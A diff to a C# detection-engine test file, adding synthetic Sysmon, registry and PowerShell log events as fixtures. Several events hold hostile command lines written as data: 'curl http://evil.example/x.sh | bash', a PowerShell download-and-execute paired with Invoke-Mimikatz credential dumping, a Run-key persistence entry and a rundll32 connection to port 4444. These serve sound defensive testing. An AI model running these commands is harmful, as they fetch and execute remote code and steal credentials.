@@ -154,6 +154,31 @@ public sealed class DetectionEngineTests(ITestOutputHelper output)
             ("Image", "/usr/bin/curl"),
             ("CommandLine", "curl http://evil.example/x.sh | bash"),
             ("message", "type=EXECVE msg=audit(1.2:3): argc=3 a0=\"curl\"")),
+        // Contains-indexed fields in other case, registry, script block and non-ASCII paths.
+        TestEvents.Of(
+            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
+            ("EventID", "1"),
+            ("Image", @"C:\WINDOWS\SYSTEM32\WHOAMI.EXE"),
+            ("CommandLine", "WHOAMI /PRIV"),
+            ("ParentImage", @"C:\Users\Jürgen\AppData\Local\Temp\ÄBC.exe")),
+        TestEvents.Of(
+            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
+            ("EventID", "13"),
+            ("EventType", "SetValue"),
+            ("Image", @"C:\Users\alice\AppData\Local\Temp\upd.exe"),
+            ("TargetObject", @"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater"),
+            ("Details", @"C:\Users\alice\AppData\Local\Temp\upd.exe")),
+        TestEvents.Of(
+            ("Channel", "Microsoft-Windows-PowerShell/Operational"),
+            ("EventID", "4104"),
+            ("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1'); Invoke-Mimikatz -DumpCreds")),
+        TestEvents.Of(
+            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
+            ("EventID", "3"),
+            ("Image", @"C:\Windows\System32\rundll32.exe"),
+            ("DestinationHostname", "pastebin.com"),
+            ("DestinationPort", "4444"),
+            ("Initiated", "true")),
         TestEvents.Of(
             ("observer.partner", "ee-cert"),
             ("observer.country", "EE"),
